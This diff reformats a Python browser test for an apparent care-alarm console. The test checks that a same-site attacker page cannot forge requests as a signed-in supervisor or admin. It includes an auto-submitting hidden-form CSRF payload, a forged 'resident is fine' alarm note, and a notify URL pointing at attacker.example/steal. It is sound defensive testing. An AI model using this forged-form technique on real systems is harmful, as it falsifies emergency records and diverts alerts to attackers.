@@ -37,10 +37,13 @@ class Attacker:
         class Handler(BaseHTTPRequestHandler):
             def do_GET(self) -> None:
                 action, fields = attacker.forms[self.path]
-                inputs = "".join(f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">'
-                                 for k, v in fields.items())
-                body = (f'<!doctype html><form id="f" method="post" action="{html.escape(action)}">{inputs}</form>'
-                        '<script>document.getElementById("f").submit()</script>').encode()
+                inputs = "".join(
+                    f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">' for k, v in fields.items()
+                )
+                body = (
+                    f'<!doctype html><form id="f" method="post" action="{html.escape(action)}">{inputs}</form>'
+                    '<script>document.getElementById("f").submit()</script>'
+                ).encode()
                 self.send_response(200)
                 self.send_header("Content-Type", "text/html; charset=utf-8")
                 self.end_headers()
@@ -75,18 +78,22 @@ def sign_in(browser, base: str, username: str):  # type: ignore[no-untyped-def]
 
 
 def test_a_same_site_page_cannot_post_as_a_signed_in_supervisor_or_admin(  # type: ignore[no-untyped-def]
-        tmp_path, central_broker, attacker, browser) -> None:
+    tmp_path, central_broker, attacker, browser
+) -> None:
     server = start_server(tmp_path, central_broker.address)
     try:
         provision(server, 1, ["json://127.0.0.1:9/caregiver/{code}"])
         base = server.settings.base_url
         with server.services.sessions() as s, s.begin():
             rid = s.scalars(select(Resident.id)).one()
-            alarm_id = desk.apply_gateway_alarm(s, "gw-r001", 1, rid, {"type": "sos", "severity": "emergency"},
-                                                utc_now(), utc_now()).alarm.id
+            alarm_id = desk.apply_gateway_alarm(
+                s, "gw-r001", 1, rid, {"type": "sos", "severity": "emergency"}, utc_now(), utc_now()
+            ).alarm.id
         attacker.forms["/note"] = (f"{base}/console/alarms/{alarm_id}/note", {"text": "FORGED: resident is fine"})
-        attacker.forms["/pair"] = (f"{base}/console/admin/pairings", {
-            "resident": "R001", "code": "C001", "name": "李伟", "notify_url": "json://attacker.example/steal"})
+        attacker.forms["/pair"] = (
+            f"{base}/console/admin/pairings",
+            {"resident": "R001", "code": "C001", "name": "李伟", "notify_url": "json://attacker.example/steal"},
+        )
 
         supervisor = sign_in(browser, base, "supervisor")
         response = supervisor.goto(attacker.url("/note"))
@@ -108,10 +115,15 @@ def test_a_same_site_page_cannot_post_as_a_signed_in_supervisor_or_admin(  # typ
         expect(admin.locator("body")).to_contain_text("CSRF", timeout=WAIT_MS)
 
         with server.services.sessions() as s:
-            notes = [a.detail.get("note", "") for a in s.scalars(select(AlarmAudit).where(
-                AlarmAudit.alarm_id == alarm_id, AlarmAudit.action == "note"))]
+            notes = [
+                a.detail.get("note", "")
+                for a in s.scalars(
+                    select(AlarmAudit).where(AlarmAudit.alarm_id == alarm_id, AlarmAudit.action == "note")
+                )
+            ]
             assert notes == ["已电话联系，邻居前往"], notes
             assert s.scalars(select(Caregiver).where(Caregiver.code == "C001")).one().notify_urls == [
-                "json://127.0.0.1:9/caregiver/R001"]
+                "json://127.0.0.1:9/caregiver/R001"
+            ]
     finally:
         server.stop()
